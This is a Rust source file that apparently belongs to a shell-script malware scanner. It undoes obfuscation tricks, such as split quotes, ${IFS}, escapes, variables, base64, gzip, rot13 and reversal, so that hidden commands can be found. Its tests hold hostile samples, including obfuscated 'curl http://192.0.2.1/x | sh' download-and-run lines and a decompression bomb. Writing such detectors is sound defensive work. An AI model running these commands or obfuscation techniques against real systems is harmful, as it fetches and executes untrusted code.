//! A script's normal form: what is left when the tricks that hide words from a reader are undone.
//!
//! Quotes within words, backslashes, line continuations, `${IFS}`, `\x41` and `\101` escapes, variables with
//! literal values and their substrings are resolved; comment lines are dropped, and of wrapped base64 all lines but the first and
//! the last; decoded layers are appended.
//! Every byte remembers where in the script it came from, so that a verdict can point there.

use fixedbitset::FixedBitSet;

use super::{
    codes,
    decode::{self, Decoder},
    growth::make_room,
    places::Places,
    separator::{LAYER, is_operator},
    variables::Variables,
};

/// Layers within layers that are followed.
const DEPTH_MAX: usize = 3;
/// A variable's value longer than this is not put in place of its name.
const VALUE_MAX: usize = 256;
/// Nor is one when more than this, plus an eighth of the length of the script, has been put in already.
const VALUES_BYTES: usize = 64 * 1024;
/// Decoded text is bounded by this, plus the length of the script: what its bytes hide fits. What was compressed has a bound of its own.
const LAYERS_BYTES: usize = 256 * 1024;
/// Text that is turned around is bounded by this, and so is that of which letters are exchanged: it takes no bytes to ask for it.
const TURNED_BYTES: usize = 128 * 1024;

/// Layers that were decoded and are yet to be brought into normal form.
#[derive(Default)]
struct Layers {
    /// All of them, one after the other.
    bytes: Vec<u8>,
    /// For each, where in the script it was hidden, and where it ends in `bytes`.
    ends: Vec<(u32, usize)>,
}

impl Layers {
    fn clear(&mut self) {
        self.bytes.clear();
        self.ends.clear();
    }

    /// Adds a layer of so many bytes unless it is longer than what is left.
    fn add(&mut self, at: u32, left: &mut usize, bytes: usize, layer: impl Iterator<Item = u8>) {
        if bytes > *left {
            return;
        }
        *left -= bytes;
        make_room(&mut self.bytes, bytes);
        self.bytes.extend(layer);
        self.ends.push((at, self.bytes.len()));
    }

    fn iter(&self) -> impl Iterator<Item = (u32, &[u8])> {
        let mut start = 0;
        self.ends.iter().map(move |(at, end)| (*at, &self.bytes[std::mem::replace(&mut start, *end)..*end]))
    }
}

/// The normal form. Buffers are kept from script to script.
#[derive(Default)]
pub(super) struct Normal {
    /// The text.
    pub(super) text: Vec<u8>,
    /// For each byte of `text`, the position in the script it came from, NULs left out.
    origin: Places,
    /// Where in `text` blanks and operators stand that separate nothing: they were within quotes, or came with a variable.
    pub(super) quoted: FixedBitSet,
    variables: Variables,
    decoder: Decoder,
    /// A list of codes, read.
    codes: Vec<u8>,
    /// How much may still be put in place of variables' names.
    values_left: usize,
    /// How much may still be decoded.
    layers_left: usize,
    /// How much may still be turned around.
    turned_left: usize,
    /// Of how much letters may still be exchanged.
    exchanged_left: usize,
    /// A script without its NULs, and where each of its bytes was.
    compact: Vec<u8>,
    places: Option<Places>,
    /// What was found hidden in what is being read.
    found: Layers,
    /// What is being read.
    reading: Layers,
}

impl Normal {
    /// Brings a script into normal form. Shells drop NULs as they read.
    pub(super) fn form(&mut self, script: &[u8]) {
        self.places = None;
        if memchr::memchr(0, script).is_none() {
            self.form_text(script);
            return;
        }
        let mut compact = std::mem::take(&mut self.compact);
        let mut places = Places::default();
        compact.clear();
        for (at, byte) in script.iter().enumerate().filter(|(_, byte)| **byte != 0) {
            make_room(&mut compact, 1);
            compact.push(*byte);
            places.push(at as u32);
        }
        self.form_text(&compact);
        self.compact = compact;
        self.places = Some(places);
    }

    /// The position in the script that a byte of the text came from.
    pub(super) fn origin(&self, at: u32) -> u32 {
        let at = self.origin.of(at);
        self.places.as_ref().map_or(at, |places| places.of(at))
    }

    /// Is that a blank or an operator that separates nothing?
    pub(super) fn is_quoted(&self, at: usize) -> bool {
        self.quoted.contains(at)
    }

    fn form_text(&mut self, script: &[u8]) {
        self.text.clear();
        self.origin.clear();
        self.quoted.clear();
        self.variables.clear();
        self.found.clear();
        self.values_left = VALUES_BYTES + script.len() / 8;
        self.layers_left = LAYERS_BYTES + script.len();
        self.turned_left = TURNED_BYTES;
        self.exchanged_left = TURNED_BYTES;
        self.decoder.begin();
        self.find_layers(script, None);
        self.flatten(script, None);
        for _ in 0..DEPTH_MAX {
            std::mem::swap(&mut self.found, &mut self.reading);
            self.found.clear();
            let reading = std::mem::take(&mut self.reading);
            for (at, layer) in reading.iter() {
                self.push(b'\n', at);
                self.push(LAYER, at);
                self.find_layers(layer, Some(at));
                self.flatten(layer, Some(at));
            }
            self.reading = reading;
        }
    }

    /// Collects what `text` hides. Positions are those of the script, or `fixed` within a layer.
    fn find_layers(&mut self, text: &[u8], fixed: Option<u32>) {
        let at = |start: usize| fixed.unwrap_or(start as u32);
        let (found, left) = (&mut self.found, &mut self.layers_left);
        self.decoder.layers(text, |start, layer, was_compressed| {
            let mut own = layer.len();
            let left = if was_compressed { &mut own } else { &mut *left };
            found.add(at(start), left, layer.len(), layer.iter().copied());
        });
        codes::lists(text, &mut self.codes, |start, list| {
            found.add(at(start), left, list.len(), list.iter().copied());
        });
        let left = &mut self.turned_left;
        if has_word(text, b"rev") || memchr::memmem::find(text, b"[::-1]").is_some() {
            decode::quoted_strings(text, |start, string| {
                found.add(at(start), left, string.len(), string.iter().rev().copied());
            });
        }
        let left = &mut self.exchanged_left;
        if let Some(first) = memchr::memmem::find(text, b"n-za-m") {
            // Of a long text what is around the first of these and the last.
            let last = memchr::memmem::rfind(text, b"n-za-m").unwrap_or(first);
            let half = *left / 2;
            let near = |place: usize| {
                let start = place.saturating_sub(half / 2).min(text.len().saturating_sub(half));
                start..text.len().min(start + half)
            };
            let (first, last) = (near(first), near(last));
            let parts = if last.start < first.end { [first.start..last.end, 0..0] } else { [first, last] };
            for part in parts.into_iter().filter(|part| !part.is_empty()) {
                let text = &text[part.clone()];
                found.add(at(part.start), left, text.len(), decode::rot13(text));
            }
        }
    }

    fn push(&mut self, byte: u8, at: u32) {
        make_room(&mut self.text, 1);
        self.text.push(byte);
        self.origin.push(at);
    }

    /// Appends the normal form of `source`, in which layers were looked for last.
    fn flatten(&mut self, source: &[u8], fixed: Option<u32>) {
        let at = |i: usize| fixed.unwrap_or(i as u32);
        let mut i = 0;
        let mut line_start = true;
        // Where the current word begins in `text`, for assignments.
        let mut word = self.text.len();
        let mut continued = 0;
        // The quote that is open. One that is left open ends with the line: an apostrophe in a remark opens none.
        let mut quote = None;
        // A command was begun within it, whose operators are operators.
        let mut substitutes = false;
        while i < source.len() {
            // They would fill whole windows, and say nothing that the first line does not.
            if let Some(line) = self.decoder.continued.get(continued)
                && line.start <= i
            {
                continued += 1;
                i = i.max(line.end);
                continue;
            }
            let byte = source[i];
            if line_start && byte == b'#' && !(i == 0 && source.get(1) == Some(&b'!')) {
                i += memchr::memchr(b'\n', &source[i..]).unwrap_or(source.len() - i);
                continue;
            }
            line_start = byte == b'\n' || line_start && matches!(byte, b' ' | b'\t');
            match byte {
                b'\\' if quote != Some(b'\'') && matches!(source.get(i + 1), Some(b'\'' | b'"')) => i += 2,
                b'\\' => {
                    let (bytes, used) = escape(&source[i..]);
                    match bytes {
                        Escape::Nothing => {}
                        Escape::Byte(b) => self.push(b, at(i)),
                        Escape::Keep => self.push(b'\\', at(i)),
                    }
                    i += used;
                }
                // Quotes only join; what they protect is looked at all the same.
                b'\'' | b'"' => {
                    match quote {
                        None => (quote, substitutes) = (Some(byte), false),
                        Some(open) if open == byte => quote = None,
                        Some(_) => {}
                    }
                    i += 1;
                }
                // NULs are those of decoded layers: those of the script are gone.
                b'\r' | 0 => i += 1,
                b'$' => i += self.dollar(&source[i..], at(i)),
                _ => {
                    let ends_word =
                        matches!(byte, b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'(' | b')' | b'`');
                    if ends_word {
                        self.learn(word);
                    }
                    if byte == b'\n' {
                        quote = None;
                    } else if let Some(open) = quote
                        && separates(byte)
                    {
                        substitutes |=
                            open == b'"' && (byte == b'`' || byte == b'(' && self.text.ends_with(b"$"));
                        if !substitutes {
                            self.quoted.grow_and_insert(self.text.len());
                        }
                    }
                    self.push(byte, at(i));
                    if ends_word {
                        word = self.text.len();
                    }
                    i += 1;
                }
            }
        }
        self.learn(word);
    }

    /// Remembers `name=value` when the value is literal.
    fn learn(&mut self, word: usize) {
        let text = &self.text[word..];
        let Some(end) = text.iter().take(40).position(|b| !is_name_byte(*b)) else { return };
        if text[end] != b'=' || end == 0 || text[0].is_ascii_digit() {
            return;
        }
        let (name, value) = (&text[..end], &text[end + 1..]);
        if value.is_empty() || value.len() > 4096 || value.iter().any(|b| matches!(b, b'$' | b'`')) {
            return;
        }
        self.variables.set(name, value);
    }

    /// Handles what begins with a dollar; returns how many bytes were used.
    fn dollar(&mut self, source: &[u8], at: u32) -> usize {
        match source.get(1) {
            // $'…' and $"…": the quotes go, escapes inside are decoded as they come.
            Some(b'\'' | b'"') => 1,
            Some(b'{') => {
                let Some(close) = memchr::memchr(b'}', &source[..source.len().min(80)]) else {
                    self.push(b'$', at);
                    return 1;
                };
                let inner = &source[2..close];
                let name_end = inner.iter().position(|b| !is_name_byte(*b)).unwrap_or(inner.len());
                let (name, rest) = inner.split_at(name_end);
                if !self.resolve(name, rest, at) {
                    for b in source[..=close].iter().filter(|b| !matches!(b, b'\'' | b'"')) {
                        if separates(*b) {
                            self.quoted.grow_and_insert(self.text.len());
                        }
                        self.push(*b, at);
                    }
                }
                close + 1
            }
            Some(b) if is_name_byte(*b) && !b.is_ascii_digit() => {
                let end = source[1..].iter().position(|b| !is_name_byte(*b)).map_or(source.len(), |n| n + 1);
                if !self.resolve(&source[1..end], b"", at) {
                    for b in &source[..end] {
                        self.push(*b, at);
                    }
                }
                // `$IFS$9` and the like: an unset positional parameter only separates.
                end
            }
            // Unset positional parameters and `$@` between letters vanish: `c$@url`, `w$1get`.
            Some(b'@' | b'*' | b'0'..=b'9')
                if self.text.last().is_some_and(u8::is_ascii_alphanumeric)
                    && source.get(2).is_some_and(u8::is_ascii_alphanumeric) =>
            {
                2
            }
            _ => {
                self.push(b'$', at);
                1
            }
        }
    }

    /// Puts a variable's value in place of its name, when it is known and short.
    fn resolve(&mut self, name: &[u8], rest: &[u8], at: u32) -> bool {
        if name == b"IFS" {
            self.push(b' ', at);
            return true;
        }
        let Some(value) = self.variables.get(name) else { return false };
        let value = match rest {
            [b':', digits @ ..] => match substring(value, digits) {
                Some(part) => part,
                None => return false,
            },
            // Case changes and the like keep the letters.
            b"" | [b',' | b'^', ..] => value,
            _ => return false,
        };
        if value.len() > VALUE_MAX {
            return false;
        }
        let Some(left) = self.values_left.checked_sub(value.len()) else { return false };
        self.values_left = left;
        for (i, _) in value.iter().enumerate().filter(|(_, b)| separates(**b)) {
            self.quoted.grow_and_insert(self.text.len() + i);
        }
        make_room(&mut self.text, value.len());
        self.text.extend_from_slice(value);
        self.origin.push_all(at, value.len());
        true
    }
}

/// `offset` or `offset:length` of a parameter expansion, applied.
fn substring<'a>(value: &'a [u8], spec: &[u8]) -> Option<&'a [u8]> {
    let mut numbers =
        spec.split(|b| *b == b':').map(|n| std::str::from_utf8(n).ok()?.trim().parse::<usize>().ok());
    let start = numbers.next()??.min(value.len());
    let end = match numbers.next() {
        None => value.len(),
        Some(length) => start.saturating_add(length?).min(value.len()),
    };
    Some(&value[start..end])
}

enum Escape {
    Nothing,
    Byte(u8),
    Keep,
}

/// What a backslash and the bytes behind it stand for, and how many bytes that took.
fn escape(source: &[u8]) -> (Escape, usize) {
    let digits = |from: usize, max: usize, radix: u32| {
        let values = source[from..].iter().take(max).map_while(|b| (*b as char).to_digit(radix));
        let (value, n) = values.fold((0, 0), |(value, n), digit| (value * radix + digit, n + 1));
        (n > 0).then_some((value, n))
    };
    match source.get(1) {
        Some(b'\n') => (Escape::Nothing, 2),
        Some(b'\r') if source.get(2) == Some(&b'\n') => (Escape::Nothing, 3),
        Some(b'x') => match digits(2, 2, 16) {
            Some((value, n)) => (Escape::Byte(value as u8), 2 + n),
            None => (Escape::Nothing, 1),
        },
        Some(b'u') => match digits(2, 4, 16) {
            Some((value, n)) if value < 128 => (Escape::Byte(value as u8), 2 + n),
            _ => (Escape::Nothing, 1),
        },
        Some(b'0'..=b'7') => match digits(1, if source[1] == b'0' { 4 } else { 3 }, 8) {
            Some((value, n)) if n >= 2 => (Escape::Byte(value as u8), 1 + n),
            _ => (Escape::Nothing, 1),
        },
        // Line breaks written out, as in printf: a break, not the letter.
        Some(b'n' | b't' | b'r') if source.get(2).is_none_or(|b| !b.is_ascii_lowercase()) => {
            (Escape::Byte(b' '), 2)
        }
        Some(b'\\') => (Escape::Keep, 1),
        _ => (Escape::Nothing, 1),
    }
}

/// May that separate words or statements?
fn separates(byte: u8) -> bool {
    matches!(byte, b' ' | b'\t') || is_operator(byte)
}

fn is_name_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

fn has_word(text: &[u8], word: &[u8]) -> bool {
    memchr::memmem::find_iter(text, word).any(|i| {
        let before = i.checked_sub(1).and_then(|j| text.get(j));
        let after = text.get(i + word.len());
        !before.is_some_and(|b| is_name_byte(*b)) && !after.is_some_and(|b| is_name_byte(*b))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn form(script: &str) -> String {
        let mut normal = Normal::default();
        normal.form(script.as_bytes());
        assert_eq!(normal.text.len(), normal.origin.len());
        String::from_utf8_lossy(&normal.text).into_owned()
    }

    #[test]
    fn of_wrapped_base64_the_first_and_the_last_line_are_left() {
        let full = "Ab9+".repeat(16);
        assert_eq!(
            form(&format!("a <<E\n{full}\n{full}\n{full}\nAb9+\nE\nb # c")),
            format!("a <<E\n{full}\n\n\nAb9+\nE\nb # c")
        );
        // In a comment they are left out with it.
        assert_eq!(form(&format!("a\n# {full}\n{full}\nb")), "a\n\n\nb");
    }

    #[test]
    fn nuls_are_dropped_as_shells_drop_them_and_places_stay_right() {
        let mut normal = Normal::default();
        normal.form(b"a\0b c\0\0url\nx");
        assert_eq!(normal.text, b"ab curl\nx");
        let origins: Vec<u32> = (0..9).map(|at| normal.origin(at)).collect();
        assert_eq!(origins, [0, 2, 3, 4, 7, 8, 9, 10, 11]);
        let hidden = "Y3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA==";
        let spread: String = hidden.chars().flat_map(|c| [c, '\0']).collect();
        assert!(form(&spread).contains("curl http://192.0.2.1/x | sh"));
    }

    #[test]
    fn a_script_that_unpacks_to_gigabytes_is_unpacked_to_a_bound() {
        use base64::{Engine, prelude::BASE64_STANDARD};
        let mut zip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        std::io::Write::write_all(&mut zip, &b"echo a\n".repeat(40_000)).unwrap();
        let bomb = BASE64_STANDARD.encode(zip.finish().unwrap()) + " ";
        let script = bomb.repeat((1 << 20) / bomb.len());
        let mut normal = Normal::default();
        normal.form(script.as_bytes());
        assert!(normal.text.len() <= script.len() + 512 * 1024 + 64 * 1024, "{}", normal.text.len());
        let layers = normal.found.bytes.capacity() + normal.reading.bytes.capacity();
        assert!(layers <= 4 * (script.len() + LAYERS_BYTES), "{layers}");
    }

    #[test]
    fn hidden_words_are_put_together() {
        for hidden in [
            r"c\url -s x",
            r#"c"u"r'l' -s x"#,
            "cu\\\nrl -s x",
            "curl${IFS}-s${IFS}x",
            r"$'\x63\x75\x72\x6c' -s x",
            r"$'\143\165\162\154' -s x",
            "c$@url -s x",
        ] {
            assert_eq!(form(hidden), "curl -s x", "{hidden}");
        }
        assert!(form("a=cu;b=rl\n$a${b} -s x").ends_with("curl -s x"));
        assert!(form("k=xcurlx; ${k:1:4} -s x").ends_with("curl -s x"));
    }

    #[test]
    fn values_fill_no_memory() {
        let path = "a/".repeat(90);
        assert!(
            form(&format!("u=http://192.0.2.1/{path}\nwget $u/x")).ends_with(&format!("192.0.2.1/{path}/x"))
        );
        let script = format!("u={}\n{}", "v".repeat(250), "$u ".repeat(50_000));
        assert!(form(&script).len() < 3 * script.len() + VALUES_BYTES);
    }

    #[test]
    fn what_is_large_or_often_hides_nothing_behind_it() {
        use base64::{Engine, prelude::BASE64_STANDARD};
        let command = "curl http://192.0.2.1/x | sh # and so on ".repeat(20);
        let packed = |text: &[u8]| {
            let mut zip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
            std::io::Write::write_all(&mut zip, text).unwrap();
            BASE64_STANDARD.encode(zip.finish().unwrap())
        };
        let bomb = packed(&b"echo a\n".repeat(60_000));
        let rotated: String = decode::rot13(command.as_bytes()).map(char::from).collect();
        let reversed: String = command.chars().rev().collect();
        let padding = ": a line that only takes room\n".repeat(20_000);
        for hidden in [
            format!(": {bomb}\necho {} | base64 -d | sh", BASE64_STANDARD.encode(&command)),
            format!(
                "{}\necho {} | base64 -d | gunzip",
                "H4sIAAAAAAAAAAAAAAAAAAAAAAAA ".repeat(900),
                packed(command.as_bytes())
            ),
            format!("# n-za-m\n{padding}echo {rotated} | tr a-zA-Z n-za-mN-ZA-M"),
            format!("rev <<< '{reversed}'; {}", "rev 'abcdefghijklmnop qrstuvwxyz' ".repeat(20_000)),
        ] {
            assert!(form(&hidden).contains(&command[..27]), "{}", &hidden[..60]);
        }
    }

    #[test]
    fn layers_are_appended_and_point_to_where_they_were_hidden() {
        let script = "id\necho Y3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA== | base64 -d | sh";
        let mut normal = Normal::default();
        normal.form(script.as_bytes());
        let text = String::from_utf8_lossy(&normal.text).into_owned();
        let at = text.find("curl http://192.0.2.1/x | sh").unwrap();
        assert_eq!(normal.origin(at as u32) as usize, script.find("Y3").unwrap());
    }

    #[test]
    fn comment_lines_go_and_the_shebang_stays() {
        assert_eq!(form("#!/bin/sh\n# a comment\n  # another\nid # kept\n"), "#!/bin/sh\n\n  \nid # kept\n");
    }
}
